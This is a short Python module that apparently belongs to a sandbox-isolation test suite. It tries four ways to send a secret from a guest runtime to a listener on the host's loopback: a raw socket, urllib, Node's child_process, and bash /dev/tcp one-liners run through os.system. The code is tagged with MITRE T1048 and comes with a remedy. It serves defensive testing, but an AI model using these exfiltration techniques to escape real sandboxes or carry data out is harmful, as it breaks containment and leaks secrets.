# SPDX-License-Identifier: MIT
"""Goal:  bytes reach a program that listens beside the guest's host.
Means: the guest's sockets, which some runtimes turn into the host's, and the runtime's own: fetch() and
       Node's net.
"""

import socket

from attack import DONE, attempting, denied, telling


def by_socket(brief):
    with socket.create_connection(("127.0.0.1", brief.sink), timeout=3) as sink:
        sink.sendall(brief.secret.encode())


def by_urllib(brief):
    import urllib.request

    urllib.request.urlopen(f"http://127.0.0.1:{brief.sink}/{brief.secret}", timeout=2).read()


def by_node(brief):
    import js

    js.require("child_process").execSync(f"exec 3<>/dev/tcp/127.0.0.1/{brief.sink}; echo {brief.secret} >&3")


def by_shell(brief):
    import os

    if os.system(f"bash -c 'echo {brief.secret} > /dev/tcp/127.0.0.1/{brief.sink}'"):
        raise OSError("os.system")


def run(brief):
    attempting()
    why = None
    for way in by_socket, by_urllib, by_node, by_shell:
        try:
            way(brief)
            return DONE
        except BaseException as error:
            why = telling(why, error)
    return denied("the host's loopback", why)


ATTACK = {
    "effect": "bytes reach a listener on the host's loopback",
    "means": "socket, urllib, Node, a shell of the host's",
    "oracle": "sink",
    "quick": True,
    "attack_id": "T1048, CWE-668",
    "remedy": "a runtime without sockets; a network namespace around it",
    "run": run,
}
